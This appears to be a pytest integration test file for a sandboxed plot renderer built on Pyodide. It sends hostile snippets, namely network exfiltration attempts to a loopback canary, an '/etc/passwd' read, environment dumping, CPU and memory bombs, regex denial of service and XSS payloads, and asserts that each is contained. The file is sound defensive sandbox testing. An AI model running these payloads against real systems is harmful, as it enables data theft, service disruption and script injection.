@@ -1,0 +1,215 @@
+"""Hostile code against the real renderer: every attack ends as expected, nothing escapes.
+
+For each snippet: the job ends with the expected status and error, the
+canary on loopback hears nothing, and the very next ordinary job on the same
+(only) renderer succeeds. ``{canary}``, ``{canary_port}`` and ``{broker_port}``
+in a snippet are filled in before it is sent.
+"""
+
+import time
+from dataclasses import dataclass, field
+from urllib.parse import urlsplit
+from xml.etree import ElementTree
+
+import pytest
+
+from tests.sandbox.conftest import OUTCOMES, renderer_memory_mb
+
+pytestmark = [pytest.mark.integration, pytest.mark.sandbox]
+
+ORDINARY = "import plotly.graph_objects as go\nfig = go.Figure(go.Bar(y=[2, 3, 1]))\nfig.update_layout(title='ordinary')\nfig.show()\n"
+SHOW = "\nimport plotly.graph_objects as go\ngo.Figure(go.Bar(y=[1])).show()\n"
+
+
+def active_markup(svg: str) -> list[str]:
+    """Elements and attributes that could run code or fetch something if the SVG were opened."""
+    found = []
+    for element in ElementTree.fromstring(svg).iter():
+        tag = element.tag.rsplit("}", 1)[-1].lower()
+        if tag in ("script", "foreignobject", "iframe", "object", "embed"):
+            found.append(f"<{tag}>")
+        for name, value in element.attrib.items():
+            name = name.rsplit("}", 1)[-1].lower()
+            if name.startswith("on"):
+                found.append(f"{tag}@{name}")
+            if name in ("href", "src") and not value.startswith(("#", "data:image/")):
+                found.append(f"{tag}@{name}={value[:60]}")
+    return found
+
+
+@dataclass
+class Attack:
+    name: str
+    code: str
+    status: str
+    error_type: str | None = None
+    message: str | None = None  # a fragment of the error message
+    stdout: str | None = None  # a fragment the job's stdout must contain
+    timeout_s: float = 3.0
+    figures_clean: bool = False  # SVGs must carry no active markup
+    extra: dict = field(default_factory=dict)
+
+
+ATTACKS = [
+    # --- network, one channel at a time -----------------------------------
+    Attack("net_js_fetch", "import js\njs.fetch('{canary}/fetch')", "failed", "TypeError"),
+    Attack("net_pyodide_open_url", "from pyodide.http import open_url\nopen_url('{canary}/xhr')", "failed", "AttributeError"),
+    Attack(
+        "net_pyodide_pyfetch",
+        "import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch('{canary}/pyfetch'))",
+        "failed",
+    ),
+    Attack("net_sync_xhr", "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', '{canary}/xhr', False)\nx.send()", "failed", "AttributeError"),
+    Attack("net_websocket", "import js\njs.WebSocket.new('ws://127.0.0.1:{canary_port}/ws')", "failed", "AttributeError"),
+    Attack("net_eventsource", "import js\njs.EventSource.new('{canary}/events')", "failed", "AttributeError"),
+    Attack("net_send_beacon", "import js\njs.navigator.sendBeacon('{canary}/beacon', 'data')", "failed", "TypeError"),
+    Attack("net_img_element", "import js\nimg = js.document.createElement('img')\nimg.src = '{canary}/img'", "failed", "AttributeError"),
+    Attack("net_import_scripts", "import js\njs.importScripts('{canary}/s.js')", "failed", "TypeError"),
+    Attack("net_nested_worker", "import js\njs.Worker.new('{canary}/w.js')", "failed", "AttributeError"),
+    Attack("net_micropip", "import micropip\nmicropip.install('{canary}/x.whl')", "failed", "ModuleNotFoundError"),
+    Attack("net_load_package", "import pyodide_js\npyodide_js.loadPackage('{canary}/x.whl')" + SHOW, "done"),
+    Attack("net_socket_loopback", "import socket\nsocket.create_connection(('127.0.0.1', {canary_port}), timeout=2)", "failed", "OSError"),
+    Attack("net_socket_broker", "import socket\nsocket.create_connection(('127.0.0.1', {broker_port}), timeout=2)", "failed", "OSError"),
+    Attack("net_public_address", "import urllib.request\nurllib.request.urlopen('http://1.1.1.1/', timeout=2)", "failed", "URLError"),
+    Attack("net_eval_new_code", "import js\njs.eval('fetch(\"{canary}/eval\")')", "failed", "JsException", message="Content Security Policy"),
+    Attack(
+        "net_recover_fetch_from_prototypes",
+        "import js\nfound = []\nproto = js.Object.getPrototypeOf(js.self)\nwhile proto:\n"
+        "    found += [n for n in js.Object.getOwnPropertyNames(proto) if n in ('fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts')]\n"
+        "    proto = js.Object.getPrototypeOf(proto)\nprint('found:', found)" + SHOW,
+        "done",
+        stdout="found: []",
+    ),
+    Attack(
+        "net_figure_layout_image",
+        "import plotly.graph_objects as go\nfig = go.Figure(go.Scatter(y=[1, 2]))\n"
+        "fig.add_layout_image(source='{canary}/img.png', x=0, y=1, sizex=1, sizey=1, xref='paper', yref='paper')\nfig.show()",
+        "done",
+        figures_clean=True,
+        extra={"svg_lacks": "127.0.0.1"},
+    ),
+    # --- time -----------------------------------------------------------------
+    Attack("time_busy_loop", "while True:\n    pass", "failed", "TimeoutError", message="was interrupted"),
+    Attack(
+        "time_loop_swallows_interrupt",
+        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
+        "failed", "TimeoutError", message="did not stop when interrupted",
+    ),
+    Attack("time_catastrophic_regex", "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')", "failed", "TimeoutError"),
+    Attack("time_c_level_bigint", "x = 10 ** (10 ** 9)", "failed", "TimeoutError"),
+    Attack("time_sleep", "import time\ntime.sleep(100)", "failed", "TimeoutError"),
+    Attack("time_recursion", "def f(n):\n    return f(n + 1)\nf(0)", "failed", "RecursionError"),
+    Attack(
+        "time_recursion_limit_raised",
+        "import sys\nsys.setrecursionlimit(10 ** 6)\ndef f(n):\n    return f(n + 1)\nf(0)",
+        "failed",
+    ),
+    # --- memory ---------------------------------------------------------------
+    Attack(
+        "memory_bomb",
+        "chunks = []\nwhile True:\n    chunks.append(bytearray(256 * 1024 * 1024))",
+        "failed", "MemoryError", message="out of memory", timeout_s=40,
+    ),
+    # --- output ---------------------------------------------------------------
+    Attack(
+        "output_too_many_figures",
+        "import plotly.graph_objects as go\nfor i in range(25):\n    go.Figure(go.Bar(y=[i])).show()",
+        "failed", "OutputLimitExceeded", message="at most 20 figures",
+    ),
+    Attack(
+        "output_huge_figure",
+        "import plotly.graph_objects as go\ngo.Figure(go.Scatter(y=list(range(1_200_000)))).show()",
+        "failed", "OutputLimitExceeded", message="bytes of JSON", timeout_s=40,
+    ),
+    Attack(
+        "output_huge_svg",
+        "import random\nimport plotly.graph_objects as go\nn = 60000\n"
+        "go.Figure(go.Scatter(x=[random.random() for _ in range(n)], y=[random.random() for _ in range(n)], mode='markers')).show()",
+        "failed", "OutputLimitExceeded", message="bytes of SVG", timeout_s=40,
+    ),
+    Attack(
+        "output_stdout_flood",
+        "for i in range(100_000):\n    print('x' * 100)" + SHOW,
+        "done", stdout="[plotfarm: output truncated", timeout_s=20,
+    ),
+    # --- the host ---------------------------------------------------------------
+    Attack("host_read_passwd", "print(open('/etc/passwd').read())", "failed", "FileNotFoundError"),
+    Attack(
+        "host_listing_and_environment",
+        "import os\nprint(sorted(os.listdir('/')))\nprint('amqp' in str(os.environ).lower(), 'PLOTFARM' in str(os.environ))" + SHOW,
+        "done", stdout="['dev', 'home', 'lib', 'proc', 'tmp']\nFalse False",
+    ),
+    Attack("host_exit_process", "import os\nos._exit(1)", "failed"),
+    # --- results are untrusted ----------------------------------------------------
+    Attack(
+        "xss_title_and_annotation",
+        "import plotly.graph_objects as go\nfig = go.Figure(go.Bar(y=[1], hovertext=['<img src=x onerror=alert(1)>']))\n"
+        "fig.update_layout(title='<script>alert(1)</script><img src=x onerror=alert(2)>')\n"
+        "fig.add_annotation(text='<a href=\"javascript:alert(3)\">click</a> <iframe src=x></iframe>', x=0, y=1)\n"
+        "print('<script>alert(4)</script>')\nfig.show()",
+        "done", figures_clean=True,
+    ),
+    Attack(
+        "xss_forged_post_to_page",
+        "import js\nfor run_id in range(1, 50):\n"
+        "    js.postMessage(js.JSON.parse('{{\"type\": \"result\", \"runId\": ' + str(run_id) + ', \"payload\": \"{{}}\"}}'))" + SHOW,
+        "done",
+    ),
+]
+
+
+def fill(code: str, canary, broker_port: int) -> str:
+    return code.replace("{canary}", canary.url).replace("{canary_port}", str(canary.port)).replace(
+        "{broker_port}", str(broker_port)
+    ).replace("{{", "{").replace("}}", "}")
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
+async def test_attack_is_contained(attack, sandbox_api, sandbox_stack, canary):
+    broker_port = urlsplit(sandbox_stack.amqp_url).port or 5672
+    hits_before = len(canary.hits)
+    started = time.monotonic()
+    result = await sandbox_api.render(fill(attack.code, canary, broker_port), timeout=120, timeout_s=attack.timeout_s)
+    seconds = time.monotonic() - started
+    error = result.get("error") or {}
+
+    started = time.monotonic()
+    ordinary = await sandbox_api.render(ORDINARY, timeout=60)
+    next_seconds = time.monotonic() - started
+    OUTCOMES.append(
+        {"name": attack.name, "status": result["status"], "error_type": error.get("type", ""), "seconds": seconds,
+         "next_seconds": next_seconds, "canary_hits": len(canary.hits) - hits_before}
+    )
+
+    assert result["status"] == attack.status, error
+    if attack.error_type:
+        assert error.get("type") == attack.error_type, error
+    if attack.message:
+        assert attack.message in error.get("message", ""), error
+    if attack.stdout:
+        assert attack.stdout in result.get("stdout", ""), result.get("stdout", "")[-500:]
+    for figure in result.get("figures", []):
+        if attack.figures_clean:
+            assert not active_markup(figure["svg"]), figure["svg"][:2000]
+        if "svg_lacks" in attack.extra:
+            assert attack.extra["svg_lacks"] not in figure["svg"]
+    assert len(canary.hits) == hits_before, f"the canary was reached: {canary.hits[hits_before:]}"
+    assert ordinary["status"] == "done", ordinary.get("error")
+    assert "ordinary" in ordinary["figures"][0]["svg"]
+    assert next_seconds < 20, f"the next ordinary job took {next_seconds:.1f} s"
+
+
+async def test_memory_returns_to_baseline_after_a_memory_bomb(sandbox_api, sandbox_stack):
+    await sandbox_api.render(ORDINARY)
+    baseline = renderer_memory_mb(sandbox_stack)
+    result = await sandbox_api.render(
+        "chunks = []\nwhile True:\n    chunks.append(bytearray(256 * 1024 * 1024))", timeout=120, timeout_s=40
+    )
+    assert result["error"]["type"] == "MemoryError"
+    deadline = time.monotonic() + 30
+    after = renderer_memory_mb(sandbox_stack)
+    while after > baseline + 400 and time.monotonic() < deadline:
+        await sandbox_api.render(ORDINARY)
+        after = renderer_memory_mb(sandbox_stack)
+    print(f"renderer memory: baseline {baseline} MB, after the bomb {after} MB")
+    assert after <= baseline + 400, f"renderer memory {after} MB, baseline {baseline} MB"
